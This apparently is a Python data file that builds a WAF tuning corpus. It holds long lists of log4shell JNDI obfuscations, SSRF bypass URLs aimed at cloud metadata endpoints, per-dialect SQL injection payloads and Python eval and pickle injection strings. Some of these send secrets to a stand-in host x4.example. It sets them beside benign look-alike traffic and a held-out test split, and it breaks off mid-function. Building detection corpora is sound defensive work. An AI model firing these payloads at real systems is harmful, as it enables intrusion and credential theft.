# ruff: noqa: E501 - payload and sample lists read best one line each
"""Fourth batch of the WAF tuning corpus: new attack families and benign hard cases.

Written for round 3 of the tuning (issue 15), from public payload knowledge
only: the log4shell obfuscation write-ups (nested lookups, default values,
Unicode case mapping, escapes, every JNDI protocol), SSRF bypass lists
(address spellings, IPv6 forms, wildcard DNS, loopback domains, the metadata
endpoints of each cloud, URL schemes, userinfo and fragment tricks, redirect
chains), SQL injection per dialect (MySQL, PostgreSQL, MSSQL, SQLite,
Oracle), Python code injection, and benign traffic that looks like them
(support tickets quoting shell, CRUD with odd but legitimate values, strong
random passwords, code review, links to documentation, maths).

A seeded 30% of the items is marked ``"split": "tune-test"``: whoever tunes the
rules runs ``bench/waf_corpus.py --tuning-only --split tune`` and never looks at
those, then measures them once with ``--split test``.  Its own RNG keeps the
earlier batches byte-identical.
"""

from __future__ import annotations

import hashlib
import json
import random
import string
from urllib.parse import quote

rng4 = random.Random(31337)
TEST_SHARE = 0.30

JNDI4 = [
    # every protocol
    "${jndi:ldap://x4.example:1389/a}", "${jndi:ldaps://x4.example/a}", "${jndi:rmi://x4.example:1099/a}", "${jndi:dns://x4.example/a}",
    "${jndi:iiop://x4.example/a}", "${jndi:corba://x4.example/a}", "${jndi:nis://x4.example/a}", "${jndi:nds://x4.example/a}",
    "${jndi:http://x4.example/a}", "${jndi:https://x4.example/a}", "${jndi:iiopname://x4.example/a}", "${jndi:corbaname::x4.example#a}",
    # nested lookups, default values, case
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}s://x4.example/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:${upper:r}${upper:m}${upper:i}://x4.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-i}${::-i}${::-o}${::-p}://x4.example/a}",
    "${${::-J}${::-N}${::-D}${::-I}:${::-L}${::-D}${::-A}${::-P}://x4.example/a}",
    "${${env:XX:-j}${env:XX:-n}${env:XX:-d}${env:XX:-i}:${env:XX:-d}${env:XX:-n}${env:XX:-s}://x4.example/a}",
    "${${sys:unset:-j}ndi:${sys:unset:-l}dap://x4.example/a}", "${${ctx:unset:-j}ndi:ldap://x4.example/a}",
    "${${main:0:-j}ndi:ldap://x4.example/a}", "${${java:nope:-j}ndi:rmi://x4.example/a}", "${${marker:m:-j}ndi:ldap://x4.example/a}",
    "${${bundle:b:-j}ndi:ldap://x4.example/a}", "${${web:w:-j}ndi:ldap://x4.example/a}", "${${docker:d:-j}ndi:ldap://x4.example/a}",
    "${${jvmrunargs:x:-j}ndi:ldap://x4.example/a}", "${${event:x:-j}ndi:ldap://x4.example/a}",
    "${${upper:${lower:J}}ndi:ldap://x4.example/a}", "${${lower:${upper:${lower:j}}}ndi:ldap://x4.example/a}",
    "${j${lower:n}${upper:d}i:${lower:c}orba://x4.example/a}", "${jn${lower:d}i:dns://${env:HOSTNAME}.x4.example}",
    "${${::-j}n${::-d}i:${::-n}is://x4.example/a}", "${${a:b:-j}${c:d:-n}${e:f:-d}${g:h:-i}:${i:j:-l}dap://x4.example/a}",
    "${${date:'J'}${date:'N'}${date:'D'}${date:'I'}:${date:'l'}dap://x4.example/a}", "${${:::::-j}ndi:ldap://x4.example/a}",
    "${${base64:amo=}${lower:ndi}:ldap://x4.example/a}", "${jndi${::-:}ldap${::-:}//x4.example/a}",
    # odd Unicode letters: dotless i and long s upper-case to ASCII in Java
    "${jnd${upper:ı}:ldap://x4.example/a}", "${j${upper:ń}di:ldap://x4.example/a}", "${jndi:ld${upper:ſ}ap://x4.example/a}",
    "${${upper:ı}${lower:J}ndi:ldap://x4.example/a}", "${jndı:ldap://x4.example/a}", "${ｊｎｄｉ:ｌｄａｐ://x4.example/a}",
    "${𝐣𝐧𝐝𝐢:ldap://x4.example/a}",
    # escapes
    "%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx4.example%2Fa%7D", "%24%7Bjndi:%24%7Blower:l%7Ddap://x4.example/a%7D",
    "\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069:ldap://x4.example/a\\u007d", "&#36;&#123;jndi:ldap://x4.example/a&#125;",
    "&#x24;&#x7b;jndi:rmi://x4.example/a&#x7d;", "%u0024%u007Bjndi:ldap://x4.example/a%u007D", "$%7Bjndi:ldap://x4.example/a%7D",
    "%2524%257B%2524%257B%253A%253A-j%257Dndi%253Aldap%253A%252F%252Fx4.example%252Fa%257D",
    "\\x24\\x7b\\x24\\x7blower:j\\x7dndi:ldap://x4.example/a\\x7d", "${jndi:ldap:${::-/}/x4.example/a}",
    # unclosed, spaced, padded, exfiltrating
    "${jndi:ldap://x4.example/a", "${${lower:j}ndi:ldap://x4.example/a", "${jndi:\tldap://x4.example/a}",
    "${jndi:ldap://x4.example/${env:AWS_ACCESS_KEY_ID}/${env:AWS_SECRET_ACCESS_KEY}}", "${jndi:dns://${sys:user.name}.${java:version}.x4.example}",
    "${jndi:ldap://${ctx:loginId}.x4.example/a}", "${jndi:ldap://${hostName}.x4.example/a}", "${jndi:ldap://x4.example/${date:yyyy}}",
    "prefix ${jndi:ldap://x4.example/a} suffix", "Bearer ${jndi:ldap://x4.example/a}", "user@${jndi:ldap://x4.example/a}.com",
]

SSRF4 = [
    # address spellings
    "http://2130706433:8080/admin", "http://017700000001/", "http://0x7f000001/", "http://0x7f.0x0.0x0.0x1/", "http://0x7f.1/",
    "http://0177.1/", "http://0177.0.0.01/", "http://127.000.000.001/", "http://00000177.0.0.1/", "http://127.0.1/", "http://127.1:6379/",
    "http://0/", "http://0.0.0.0:8000/", "http://0000.0000.0000.0000/", "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/",
    "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/", "http://0251.254.169.254/", "http://169.254.43518/", "http://10.0.0.1/", "http://0xa.0.0.1/",
    "http://172.17.0.1:2375/containers/json", "http://192.168.0.254/cgi-bin/config", "http://100.64.0.1/", "http://①②⑦.⓪.⓪.①/", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
    "http://127。0。0。1/", "http://127%2e0%2e0%2e1/", "http://%6c%6f%63%61%6c%68%6f%73%74/",
    # IPv6
    "http://[::1]/", "http://[0:0:0:0:0:0:0:1]:8080/", "http://[::]:22/", "http://[0000::1]/", "http://[::ffff:127.0.0.1]:6379/",
    "http://[::ffff:7f00:1]/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/computeMetadata/v1/", "http://[fd00:ec2::254]/latest/api/token", "http://[::127.0.0.1]/", "http://[::1%25eth0]/",
    "http://[64:ff9b::7f00:1]/", "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/", "http://[fe80::1]/", "http://[fc00::1]:9200/",
    # names
    "http://127.0.0.1.nip.io/", "http://169.254.169.254.nip.io/latest/meta-data/", "http://app.10.0.0.1.nip.io/", "http://127-0-0-1.sslip.io/",
    "http://169-254-169-254.sslip.io/", "http://magic-127-0-0-1.nip.io/", "http://7f000001.nip.io/", "http://127.0.0.1.xip.io/",
    "http://localtest.me/", "http://admin.localtest.me:8080/", "http://lvh.me:3000/", "http://sub.lvh.me/", "http://vcap.me/", "http://localh.st/",
    "http://fuf.me/", "http://lacolhost.com/", "http://localhost./", "http://LOCALHOST:9000/", "http://ip6-localhost/", "http://ip6-loopback/",
    "http://kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets", "https://kubernetes.default/api",
    # metadata of every cloud
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "http://169.254.169.254/latest/user-data", "http://169.254.170.2/v2/credentials/abc",
    "http://instance-data.ec2.internal/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://169.254.169.254/opc/v2/instance/", "http://169.254.169.254/opc/v1/identity/cert.pem",
    "http://169.254.169.254/metadata/v1.json", "http://169.254.169.254/metadata/v1/user-data", "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/hetzner/v1/metadata", "http://metadata.tencentyun.com/latest/meta-data/", "http://rancher-metadata/latest/self/container",
    "http://metadata.packet.net/metadata", "http://192.0.0.192/latest/", "http://169.254.169.254/metadata/instance/compute?api-version=2021-01-01&format=json",
    # schemes
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "gopher://x4.example:9000/_%01%01%00%01", "dict://127.0.0.1:6379/info",
    "dict://x4.example:11211/stat", "file:///etc/shadow", "file://localhost/etc/passwd", "file:/proc/self/environ", "FILE:///C:/Windows/win.ini",
    "ftp://127.0.0.1/", "ftp://anonymous@10.0.0.8/pub/", "jar:http://x4.example/evil.jar!/x.class", "jar:file:///tmp/a.zip!/a", "netdoc:///etc/hosts",
    "tftp://x4.example:69/test", "ldap://localhost:389/dc=example", "sftp://127.0.0.1:22/", "php://filter/resource=http://127.0.0.1/",
    # userinfo, fragment and backslash tricks
    "http://x4.example@127.0.0.1/", "http://user:pass@169.254.169.254/latest/meta-data/", "http://x4.example:80@localhost:8080/",
    "http://127.0.0.1#@x4.example/", "http://127.0.0.1:80\\@x4.example/", "http://x4.example\\@169.254.169.254/", "http://foo@127.0.0.1:80@x4.example/",
    "http://127.0.0.1%09@x4.example/", "http://127.1.1.1:80\\@127.2.2.2:80/", "http://[::1]#@x4.example/",
    # redirect chains and URLs in other URLs
    "https://x4.example/redirect?url=http://169.254.169.254/latest/meta-data/", "https://x4.example/r?to=http%3A%2F%2F127.0.0.1%3A6379%2F",
    "https://x4.example/go?next=http://localhost:8500/v1/agent/self", "https://x4.example/out?u=gopher://127.0.0.1:25/_HELO",
    "//169.254.169.254/latest/meta-data/", "//127.0.0.1:9200/_cat/indices", "\\\\169.254.169.254\\share",
    # bare hosts
    "127.1", "0x7f000001", "[::1]", "localhost:6379", "169.254.169.254:80", "metadata.google.internal", "[::ffff:127.0.0.1]", "0177.0.0.1", "0.0.0.0:2375",
]

SQLI4 = [
    # MySQL
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -", "1'/*!OR*/1=1#", "' oR 1=1-- -", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    "' AND MAKE_SET(1=1,1)-- -", "1' AND ELT(1=1,SLEEP(5))-- -", "' OR 1 LIKE 1#", "' UNION SELECT @@datadir,2-- -", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
    "' || 1#", "' XOR 1#", "admin' AND 1=1 AND 'a'='a", "1' AND ORD(MID(user(),1,1))>100-- -", "' UNION ALL SELECT CONCAT_WS(0x3a,user,password) FROM mysql.user#",
    "1 UNION%0ASELECT 1,2", "1 UNION%09ALL%09SELECT user()", "1 union%23foo%0aselect 1,2", "1 UNION--%0ASELECT 1", "1 UnIoN(SeLeCt 1,2)",
    "1' AND 'x' REGEXP '^x", "1' AND SUBSTRING(@@version,1,1)=5-- -", "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)-- -",
    # PostgreSQL
    "'; SELECT pg_sleep(10)--", "1; COPY (SELECT '') TO PROGRAM 'id'--", "'||pg_sleep(5)||'", "' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "1 AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", "'||(SELECT chr(65)||chr(66))||'", "' AND (SELECT current_setting('is_superuser'))='on'--",
    "'; SELECT lo_import('/etc/passwd')--", "$$ || (SELECT current_user) || $$", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--",
    "1;CREATE TABLE cmd_exec(cmd_output text);--", "' UNION SELECT NULL,current_database()--", "1 AND 1::int=1", "' OR 1=1::int--",
    # JSON operators
    "' OR data->>'role'='admin'--", "' OR data::jsonb @> '{\"admin\":true}'--", "1' AND json_extract(data,'$.role')='admin' OR '1'='1",
    "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -", "' OR '{\"a\":2}'::jsonb ? 'a'--", "x' OR profile->'flags'->>'admin'='true",
    # MSSQL
    "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "'; WAITFOR DELAY '00:00:05'--", "1; DECLARE @q varchar(99); SET @q=0x73656c656374; EXEC(@q)--",
    "' AND 1=CONVERT(int,@@version)--", "' UNION SELECT name FROM master..sysdatabases--", "1 AND 1=(SELECT TOP 1 name FROM sys.tables)",
    "'; IF (1=1) WAITFOR DELAY '0:0:5'--", "' + (SELECT TOP 1 password FROM users) + '", "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
    "1;EXEC('sel'+'ect 1')", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=x4.example;uid=sa;pwd=x','select 1')--", "' AND DB_NAME()='master'--",
    "';EXEC xp_dirtree '\\\\x4.example\\a'--", "1 AND USER_NAME()='dbo'",
    # SQLite
    "' UNION SELECT sql FROM sqlite_master--", "' AND randomblob(1000000000)--", "' AND 1=like('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "' UNION SELECT sqlite_version()--", "'; ATTACH DATABASE '/var/www/lol.php' AS lol; CREATE TABLE lol.pwn (dataz text);--",
    "' AND load_extension('/tmp/x')--", "' || (SELECT tbl_name FROM sqlite_master) || '", "1 AND unicode(substr((SELECT name FROM sqlite_master),1,1))>64",
    # Oracle
    "' UNION SELECT banner FROM v$version--", "' AND 1=UTL_INADDR.get_host_name('10.0.0.1')--", "' || (SELECT user FROM dual) || '",
    "' AND 1=CTXSYS.DRITHSX.SN(user,(SELECT banner FROM v$version WHERE rownum=1))--", "'||DBMS_PIPE.RECEIVE_MESSAGE('a',10)||'",
    "' UNION SELECT NULL FROM dual--", "' AND (SELECT COUNT(*) FROM all_users)>0--", "'||UTL_HTTP.REQUEST('http://x4.example/'||user)||'", "' OR ROWNUM=1--",
    "1 AND 1=(SELECT 1 FROM dual WHERE 1=1)", "' AND 1=DBMS_XMLGEN.getxml('select 1 from dual')--",
    # time-based
    "1 AND SLEEP(5)", "1) AND SLEEP(5) AND (1=1", "' OR IF(1=1,SLEEP(5),0)--", "1;WAITFOR DELAY '0:0:5'", "1 AND 123=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
    "(SELECT 1 FROM PG_SLEEP(5))", "1 AND 1=(SELECT 1 FROM (SELECT SLEEP(5))x)", "SLEEP(5)#", "' AND BENCHMARK(10000000,SHA1(1))#", "1 OR SLEEP(5)=0 LIMIT 1",
    # ORDER BY / LIMIT injection
    "id,(SELECT CASE WHEN (1=1) THEN id ELSE name END)", "(CASE WHEN (SELECT 1)=1 THEN name ELSE price END)", "name desc, (select sleep(5))",
    "IF(1=1,name,price)", "1,extractvalue(1,concat(0x7e,user()))", "(select 1 from(select sleep(5))a)", "id;DROP TABLE users",
    "name ASC,IF((SELECT 1)=1,1,(SELECT 1 UNION SELECT 2))", "1 desc--", "10 OFFSET (SELECT COUNT(*) FROM users)", "1 UNION SELECT 1,2",
    "created_at,(SELECT 1 FROM pg_sleep(5))", "(SELECT (CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END))",
    # boolean and quote-less numerics
    "1 or true", "1 OR TRUE--", "0 or 1", "1) or true--", "1 || true", "-1 OR 2>1", "1 AND 1=0", "99 OR 1=1", "1 OR 'x'='x'",
    "10 AND ASCII(SUBSTRING(user(),1,1))>100", "1 AND (SELECT COUNT(*) FROM users)>0", "5 or 5=5", "1 OR 1 = 1", "1/**/OR/**/1=1",
    "1%20or%201%3D1", "1 AnD 2>1", "-1 OR 1=1 LIMIT 1", "1 OR 1=1--", "1 or sleep(5)", "1 and exists(select 1)", "1 AND 1 IN (SELECT 1)",
    "' or ''-'", "' or 0=0 #", "') or ('a'='a", "\") or (\"a\"=\"a", "1' or '1'='1' /*", "x' AND email IS NULL; --", "' OR EXISTS(SELECT * FROM users)--",
]

PY4 = [
    # format-string and object-graph access
    "{0.__class__}", "{0.__class__.__init__.__globals__}", "{user.__init__.__globals__[SECRET_KEY]}", "{self.__dict__}",
    "{0.__class__.__mro__[1].__subclasses__}", "{app.config[SECRET_KEY]}", "{user.password}{0.__globals__}", "{event.__class__.__init__.__globals__[os].environ}",
    "%(password)s %(__class__)s", "{.__class__.__base__.__subclasses__}",
    # eval payloads
    "__import__('os').system('id')", "__import__(\"os\").popen(\"cat /etc/passwd\").read()", "__import__('subprocess').check_output(['id'])",
    "eval(compile('import os;os.system(\"id\")','x','exec'))", "exec(\"import os; os.system('id')\")", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
    "().__class__.__bases__[0].__subclasses__()", "[].__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')",
    "globals()['__builtins__']['__import__']('os').system('id')", "getattr(__import__('os'),'system')('id')", "__builtins__.__dict__['__import__']('os')",
    "os.system('id')", "subprocess.Popen(['sh','-c','id'])", "open('/etc/passwd').read()", "lambda: __import__('os').system('id')",
    "sys.modules['os'].system('id')", "importlib.import_module('os').system('id')", "breakpoint()", "__import__('pty').spawn('/bin/sh')",
    "func.__globals__['os'].environ", "handler.__code__.co_consts", "(lambda:0).__globals__",
    # pickle-ish
    "cos\nsystem\n(S'id'\ntR.", "cposix\nsystem\n(S'cat /etc/passwd'\ntR.", "c__builtin__\neval\n(Vimport os\ntR.", "csubprocess\ncheck_output\n((S'id'\nltR.",
    "(cos\nsystem\nS'id'\no.", "c__builtin__\nexec\n(S'import os'\ntR.",
    # absolute paths
    "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/self/fd/0", "/root/.ssh/id_rsa", "/etc/hosts",
    "file:///proc/self/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/home/app/.aws/credentials", "/proc/self/cwd/app.py",
    "/app/.env", "/etc/ssh/sshd_config", "/sys/class/net/eth0/address", "C:\\Windows\\System32\\drivers\\etc\\hosts",
]

# -- benign hard cases --------------------------------------------------------------------
SHELL4 = [
    "sudo systemctl restart nginx && journalctl -u nginx -n 50", "ps aux | grep gunicorn", "kill -9 $(pgrep -f celery)", "curl -X POST https://api.example.com/v1/jobs -H 'Authorization: Bearer $TOKEN' | jq .",
    "tail -n 200 /var/log/syslog", "cat /var/log/nginx/access.log | grep 502 | wc -l", "echo $HOME", "export FOO=bar; ./run.sh", "ls -la ~/.ssh",
    "chmod 600 ~/.ssh/id_rsa", "cat /etc/hosts", "ping -c 4 api.example.com", "curl http://localhost:8080/health", "curl -v http://127.0.0.1:9000/metrics",
    "wget https://github.com/org/tool/releases/download/v1.2/tool.tar.gz", "curl -fsSL https://get.docker.com | sh", "bash <(curl -s https://install.example.com)",
    "docker exec -it api bash", "docker run --rm -it python:3.11 sh", "kubectl exec -it api-7d9 -- /bin/sh", "kubectl logs deploy/api --tail=100 | grep -i error",
    "ssh -i ~/.ssh/deploy.pem ubuntu@10.0.3.17", "sudo -u postgres psql -c 'SELECT 1'", "python3 -c 'import sys; print(sys.version)'", "node -e 'console.log(process.version)'",
    "whoami && id", "uname -r", "cat /proc/cpuinfo | grep 'model name'", "free -h; df -h /", "lsof -i :8080", "netstat -an | grep 5432",
    "nc -vz db.example.com 5432", "dig api.example.com +short", "traceroute 8.8.8.8", "openssl x509 -in cert.pem -noout -dates", "openssl rand -base64 32",
    "echo 'hello' | base64", "base64 -d <<< aGVsbG8=", "find / -name '*.log' -mtime +7 -delete", "crontab -e", "rm -rf /tmp/cache/*",
    "powershell -Command Get-Service", "Get-Process | Sort-Object CPU -Descending", "ipconfig /flushdns", "net stop spooler", "dir C:\\Users\\%USERNAME%\\Downloads",
    "type C:\\logs\\app.log", "wsl --shutdown", "sc query wuauserv", "tasklist | findstr java", "certutil -hashfile setup.exe SHA256",
    "pip install 'requests>=2.31'", "npm run build -- --prod", "git log --oneline | head -20", "git reset --hard HEAD~1", "sed -n '10,20p' app.py",
    "awk -F, '{print $2}' data.csv", "xargs -I{} echo {} < ids.txt", "env | sort", "printenv PATH", "sleep 10; curl localhost:3000",
    "mysql -u root -p -e 'SHOW DATABASES;'", "redis-cli -h 127.0.0.1 FLUSHALL", "aws s3 ls s3://my-bucket/", "gcloud compute instances list",
    "terraform plan -out=tfplan && terraform apply tfplan", "ansible all -m ping", "sudo tcpdump -i eth0 port 443", "strace -p 1234",
]
SHELL4_TEMPLATES = [
    "Hi team, I tried {c} and still get a 502. Can someone look?", "Customer reports: \"{c}\" returns permission denied on their box.",
    "Running this:\n\n    {c}\n\nprints nothing. Expected a list.", "```bash\n$ {c}\n```\nOutput attached.", "$ {c}\nbash: command not found",
    "Per the runbook, step 3 is {c} -- done, no change.", "Resolution: ran {c} on prod-2, service back.", "@oncall please run {c} when you get a sec",
    "> {c}\n\nThat worked, thanks!", "Output of `{c}`:\n```\nok\n```", "Tried:\n- {c}\n- rebooting\nNeither helped.", "Workaround: {c}",
    "Is it safe to run {c} on the primary?", "Why does {c} hang for 30s?", "The install guide says {c} but that fails on Alpine.", "{c}",
    "Escalating: after {c} the disk filled up again.", "Summary for the postmortem: someone ran {c} by mistake.", "Command used: {c} (from the wiki)",
    "Internal note: asked the customer to run {c} and send us the output.",
]
# Written after the first round-3 rules, from commands seen in ops tickets (so tuned on too).
SHELL5 = ["cd /opt/app && git pull && systemctl restart app", "ps -ef | grep java | awk '{print $2}' | xargs kill", "echo $(date) >> /tmp/log.txt",
 "for f in $(ls *.log); do gzip $f; done", "curl -s https://api.github.com/repos/x/y | jq .stargazers_count", "sudo rm -rf /var/cache/apt/*",
 "cat /etc/passwd | grep www-data", "getent passwd deploy", "id deploy; groups deploy", "ls -l /etc/nginx/conf.d/; nginx -t",
 "nc -l 8080", "bash -x deploy.sh", "sh ./configure && make && make install", "python manage.py migrate; python manage.py collectstatic",
 "wget -qO- https://deb.nodesource.com/setup_20.x | sudo -E bash -", "curl https://sh.rustup.rs -sSf | sh", "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
 "ssh user@host 'uptime; df -h'", "docker ps -a | grep Exited | awk '{print $1}' | xargs docker rm", "kill $(lsof -t -i:3000)",
 "whoami; hostname; uptime", "cat ~/.aws/credentials", "ls ~/.ssh/", "tail -f /var/log/auth.log", "chmod +x ./run.sh && ./run.sh",
 "sudo -i", "su - postgres", "mysql -e \"SELECT user FROM mysql.user\"", "psql -c 'select * from pg_stat_activity'", "sqlite3 app.db '.tables'",
 "powershell Get-ChildItem Env:", "cmd /c echo %PATH%", "set PATH=%PATH%;C:\\tools", "Invoke-WebRequest https://example.com -OutFile x.zip",
 "certutil -decode in.b64 out.bin", "nslookup -type=mx example.com", "ping 10.0.0.1 -n 4", "tracert 8.8.8.8", "net use Z: \\\\fs01\\share",
 "crontab -l | grep backup", "env | grep -i proxy", "printenv | sort", "echo $SHELL", "uname -a && cat /etc/os-release", "sleep 5 && curl -I localhost",
 "base64 -d secret.txt | openssl enc -d -aes-256-cbc", "python -c \"import os; print(os.getcwd())\"", "perl -pi -e 's/foo/bar/g' file.txt",
 "find / -perm -4000 2>/dev/null", "systemctl status nginx | head", "journalctl -xe", "dmesg | tail", "ip route; ip addr", "telnet mail.example.com 25",
]
SHELL5_TEMPLATES = ["Workaround: {c}", "Tried {c}, no luck.", "{c}", "Run: {c}", "Hi, I ran {c} and got an error. Help?", "Steps:\n1. {c}\n2. restart",
 "Please try `{c}` and report back.", "`{c}` fails with exit code 1", "Ops note: {c}", "Customer ran: {c}"]
CRUD4_VALUES = [
    "O'Neil-Smith", "Smith & Sons; Ltd.", "Table (Oak) -- 2m", "A-1'B", "1 or 2 boxes", "select/drop-down", "alice+orders@example.com", "N/A", "--", ";",
    "+1 (555) 010-0199 #2", "Flat 2/3, 10-12 O'Connell St.", "c/o Reception; Bldg 7", "#ff00aa", "{\"k\": \"v\"}", "v1.2.3-rc.1+build.5", ">=1.2,<2",
    "*/5 * * * *", "Europe/Zurich", "^\\d{5}$", "report (final) v2.pdf", "SAVE-10%", "c#", "f#", "c++", "https://example.com/p?a=1&b=2", "10.0.3.17",
    "Mozilla/5.0 (X11; Linux x86_64)", "16:9", "10x20 cm", "1=1 scale", "Rock'n'Roll", "Don't Stop Me Now", "R&D / Q&A", "Ünïcödé ☃", "100% <3",
    "a || b", "wait 5s; then retry", "50% off -- today only!", "Order #1; Order #2", "DROP-OFF POINT 3", "Union St. & 5th Ave", "Select Comfort bed",
    "DELETE key sticks", "UPDATE: arrived", "INSERT size 3", "exec summary", "sh-20 drill bit", "id: 42", "cat (Siamese), 3 yrs", "ls-460 parts",
    "curl & wave hair", "java beans 1kg", "Python 3.11 notes", "SQL for Dummies (3rd ed.)", "The Art of Shell Scripting", "/docs/getting-started",
    "~/Documents/taxes 2024", "C:\\Users\\bob\\Desktop", "\\\\fileserver\\share\\q3.xlsx", "1'000'000", "3' x 5' rug", "12\" pizza", "5'11\"",
    "O'Brien's Pub -- 'The Snug'", "AT&T; Verizon", "x=1&y=2", "$USD 1,200.00", "${price} each", "{{first_name}}", "%s items", "50/50",
    "Ref: ABC/123-45#6", "path/to/file.txt", "2024-06-01..2024-06-30", "Mon-Fri 9:00-17:00; Sat 10-14", "http://localhost:3000 (dev)",
]
DOC_URLS = [
    "https://docs.python.org/3/library/subprocess.html#subprocess.run", "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html", "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata", "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html", "https://www.postgresql.org/docs/current/functions-json.html", "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://sqlite.org/lang_select.html", "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/SELECT.html", "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/", "https://github.com/advisories/GHSA-jfh8-c2jp-5v3q", "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php", "https://en.wikipedia.org/wiki/Log4Shell", "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://docs.docker.com/engine/reference/commandline/exec/", "https://nip.io/", "https://www.gnu.org/software/bash/manual/bash.html#Command-Substitution",
]
DOC_TEMPLATES = ["See {u} for details.", "{u}", "Background: {u} (section 2)", "Relevant docs: {u} and the RFC.", "Fixed per {u}"]
REVIEW4 = [
    "Prefer `type(self).__name__` over `self.__class__.__name__` here.", "Don't call `eval()` on user input; use `ast.literal_eval` instead.",
    "This `os.system(cmd)` should be `subprocess.run([...], check=True)` without shell=True.", "`pickle.loads` on request data is an RCE; switch to JSON.",
    "Use `'{name}'.format(name=name)` or an f-string; `%` formatting is legacy.", "Nit: `__init__` should not do I/O.", "The `__all__` list is missing `Waf`.",
    "`yaml.load` without a Loader is unsafe -- use `yaml.safe_load`.", "Why `getattr(obj, name)` with a name from the request? That reaches any attribute.",
    "Move the `import os` to the top of the module.", "`open(path).read()` leaks the handle; use `with open(path) as fh:`.", "Please add a test for `str.format` with `{0.__class__}` in the template -- it leaks internals.",
    "`SELECT ... FOR UPDATE SKIP LOCKED` is what we want for the job queue.", "Use `COALESCE(x, 0)` rather than the CASE WHEN.", "The `LIMIT 1 OFFSET 0` is redundant.",
    "The query needs `WHERE tenant_id = %s` or it leaks across tenants.", "`data->>'email'` won't use the index; add an expression index.", "Careful: `1 = 1` in the builder means every row.",
    "Reading `/proc/self/status` for memory is Linux-only; psutil is portable.", "We shouldn't hard-code `/etc/ssl/certs`; use certifi.", "Tests mock `/etc/passwd` lookups -- use `pwd.getpwuid` instead.",
    "`except Exception: pass` hides the real error.", "`lambda: None` as a default is fine here.", "`globals()` lookups are slow; pass the registry in.",
    "`breakpoint()` left in the handler -- please remove before merge.", "`sys.modules` hack is fragile; use importlib.reload.",
]
MATH4 = [
    "Let f(x) = x^2 + 1; then f'(x) = 2x.", "If a|b and b|c then a|c.", "x >= 0 || y <= 1", "Sum_{i=1}^{n} i = n(n+1)/2", "P(A|B) = P(B|A) P(A) / P(B)",
    "{x | x > 0}", "e^{i*pi} + 1 = 0", "3 * 7 = 21 and 21 / 3 = 7", "1 = 1, so the identity holds.", "$\\frac{1}{2} + \\frac{1}{3} = \\frac{5}{6}$",
    "n! = n * (n-1)!", "(a+b)^2 = a^2 + 2ab + b^2", "if x = 1 or x = 2 then x^2 - 3x + 2 = 0", "0.1 + 0.2 != 0.3 in floating point", "lim_{x->0} sin(x)/x = 1",
    "A = {1, 2, 3}; B = {3, 4}; A ∩ B = {3}", "f: R -> R, x |-> 2x", "gcd(12, 18) = 6; lcm(4, 6) = 12", "7 mod 3 = 1", "∫_0^1 x dx = 1/2",
    "1/0 is undefined", "The answer is 42 (or 41 if you round down).", "v = d / t; d = 100m, t = 9.58s", "2^10 = 1024", "sqrt(2) ≈ 1.414",
]


def split_of(item_id: str) -> str:
    """``tune`` or ``tune-test``: a seeded 30% held back from whoever tunes the rules."""
    digest = hashlib.sha256(f"waftune3:{item_id}".encode()).digest()
